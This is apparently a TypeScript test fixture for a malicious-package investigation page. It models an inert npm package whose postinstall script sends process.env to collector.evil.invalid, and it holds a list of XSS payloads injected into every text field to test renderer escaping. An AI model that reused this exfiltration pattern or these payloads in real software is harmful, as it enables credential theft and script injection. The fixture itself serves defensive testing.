// A hand-made Investigate model of an inert "malicious" package (reserved .invalid domains, TEST-NET
// addresses) for tests of the page: every section filled, so that each renderer has work to do.
import type { InvestigateModel } from '../../src/editor/model/investigate/protocol';

export function maliciousModel(): InvestigateModel {
  return {
    key: 'evil-pkg@1.0.1',
    name: 'evil-pkg',
    version: '1.0.1',
    banner: {
      verdict: 'malicious',
      score: 92,
      reason: 'An install script sends environment variables to a remote host.',
      records: [{ id: 'MAL-2026-0001', summary: 'Malicious code in evil-pkg (npm)', link: 'osv-MAL-2026-0001', published: '2026-11-20T08:00:00Z' }],
      removedByNpm: 'the registry no longer lists 1.0.1',
      skipped: ['binding.gyp was not expanded'],
      pending: false,
      integrity: 'sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==',
    },
    evidence: [
      // deliberately out of order: the page sorts groups by severity
      {
        severity: 'medium',
        items: [
          {
            id: 'e1',
            rule: 'reads-env',
            ruleLink: 'rule-reads-env',
            severity: 'medium',
            category: 'env',
            message: 'Reads every environment variable.',
            file: 'lib/collect.js',
            line: 3,
            column: 14,
            canOpen: true,
            indicators: [],
            excerpt: {
              lines: [{ number: 3, tokens: [{ text: 'const all = ', kind: 'plain' }, { text: 'process', kind: 'builtin' }, { text: '.env', kind: 'property' }], hit: true, mark: { start: 12, end: 23 }, cutBefore: false, cutAfter: false }],
            },
          },
        ],
      },
      {
        severity: 'critical',
        items: [
          {
            id: 'e0',
            rule: 'exfiltrates-env',
            ruleLink: 'rule-exfiltrates-env',
            severity: 'critical',
            category: 'network',
            message: 'Sends process.env to collector.evil.invalid.',
            file: 'index.js',
            line: 2,
            column: 1,
            canOpen: true,
            indicators: [{ type: 'domain', value: 'collector.evil.invalid' }],
            excerpt: {
              lines: [
                { number: 1, tokens: [{ text: 'const', kind: 'keyword' }, { text: ' https = ', kind: 'plain' }, { text: 'require', kind: 'function' }, { text: '(', kind: 'punctuation' }, { text: "'https'", kind: 'string' }, { text: ');', kind: 'punctuation' }], hit: false, cutBefore: false, cutAfter: false },
                {
                  number: 2,
                  tokens: [{ text: 'https.', kind: 'plain' }, { text: 'request', kind: 'function' }, { text: '(', kind: 'punctuation' }, { text: "'https://collector.evil.invalid/c'", kind: 'string' }, { text: ', ', kind: 'punctuation' }, { text: '42', kind: 'number' }, { text: ')', kind: 'punctuation' }],
                  hit: true,
                  mark: { start: 14, end: 48 },
                  cutBefore: true,
                  cutAfter: true,
                },
                { number: 3, tokens: [{ text: '// done', kind: 'comment' }], hit: false, cutBefore: false, cutAfter: false },
              ],
            },
          },
        ],
      },
      {
        severity: 'high',
        items: [
          { id: 'e2', rule: 'install-script', ruleLink: 'rule-install-script', severity: 'high', category: 'install', message: 'Runs node index.js at install time.', file: 'package.json', line: 6, canOpen: true, indicators: [] },
        ],
      },
    ],
    files: {
      files: [
        { path: 'package.json', size: 412, flags: ['entry-point'], findingCount: 1 },
        { path: 'index.js', size: 2300, flags: ['install-time', 'findings', 'new'], findingCount: 1 },
        { path: 'lib/collect.js', size: 18_000, flags: ['findings', 'changed', 'minified'], findingCount: 1 },
        { path: 'lib/native.node', size: 1_500_000, flags: ['binary'], findingCount: 0 },
      ],
      total: 4,
      totalSize: 1_520_712,
      entryPoints: [
        { kind: 'main', label: 'main', detail: 'lib/collect.js', installTime: false },
        { kind: 'lifecycle', label: 'postinstall', detail: 'node index.js', installTime: true },
      ],
    },
    diff: {
      from: '1.0.0',
      to: '1.0.1',
      basis: 'semver-previous',
      added: [{ path: 'index.js', size: 2300, newRules: ['exfiltrates-env'] }],
      removed: [{ path: 'README.old.md', size: 120 }],
      changed: [
        { path: 'lib/collect.js', sizeBefore: 900, sizeAfter: 18_000, newRules: ['reads-env'], hasPatch: true },
        { path: 'lib/native.node', sizeBefore: 1_400_000, sizeAfter: 1_500_000, newRules: [], hasPatch: false, patchSkipped: 'binary file' },
      ],
      unchangedCount: 1,
      totals: { added: 1, removed: 1, changed: 2 },
      packageNewRules: ['install-script'],
    },
    registry: {
      publishedAt: '2026-11-19T22:10:00Z',
      publisher: 'new-maintainer',
      maintainers: ['original-author', 'new-maintainer'],
      previousVersion: '1.0.0',
      distTags: [{ tag: 'latest', version: '1.0.1' }],
      versions: [
        { version: '1.0.1', publishedAt: '2026-11-19T22:10:00Z', current: true },
        { version: '1.0.0', publishedAt: '2024-03-02T10:00:00Z', current: false },
      ],
      versionCount: 2,
      repository: { text: 'github.com/example/evil-pkg', link: 'repo' },
      provenance: false,
      deprecated: 'do not use',
    },
    indicators: {
      domains: ['collector.evil.invalid'],
      ips: ['192.0.2.10'],
      urls: ['https://collector.evil.invalid/c'],
      paths: ['~/.npmrc'],
      json: '{"domains":["collector.evil.invalid"]}',
    },
    links: [
      { id: 'osv-MAL-2026-0001', url: 'https://osv.dev/vulnerability/MAL-2026-0001' },
      { id: 'rule-exfiltrates-env', url: 'https://github.invalid/takedown/docs/rules/exfiltrates-env.md' },
      { id: 'rule-reads-env', url: 'https://github.invalid/takedown/docs/rules/reads-env.md' },
      { id: 'rule-install-script', url: 'https://github.invalid/takedown/docs/rules/install-script.md' },
      { id: 'repo', url: 'https://github.com/example/evil-pkg' },
      { id: 'npm', url: 'https://www.npmjs.com/package/evil-pkg/v/1.0.1' },
    ],
    npmLink: 'npm',
    actions: { report: true, allow: true, openNpm: true, rescan: true, copyIndicators: true },
  };
}

const PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=1</script>',
  'javascript:window.__xss=1',
  '</style><style>body{display:none}</style>',
  '"><svg onload=window.__xss=1>',
  '[x](javascript:alert(1))',
];

// Fields holding enum values the host takes from the engine, not from the package.
const ENUM_FIELDS = new Set(['verdict', 'severity', 'category', 'kind', 'basis', 'flags']);

/**
 * The same model with a payload in front of every free-text string (names, paths, messages, tokens,
 * link ids and URLs, indicator values). The same input always gets the same payload, so link ids
 * still match their links.
 */
export function hostileModel(): InvestigateModel {
  const withPayload = (text: string): string => {
    let hash = 0;
    for (const c of text) hash = (hash * 31 + c.charCodeAt(0)) >>> 0;
    return PAYLOADS[hash % PAYLOADS.length] + text;
  };
  const walk = (value: unknown, field: string): unknown => {
    if (typeof value === 'string') return ENUM_FIELDS.has(field) ? value : withPayload(value);
    if (Array.isArray(value)) return value.map((v) => walk(v, field));
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, walk(v, k)]));
    return value;
  };
  const model = walk(maliciousModel(), '') as InvestigateModel;
  // every payload appears at least once whatever the hash spread
  model.banner.skipped = [...PAYLOADS];
  return model;
}

export { PAYLOADS as XSS_PAYLOADS };
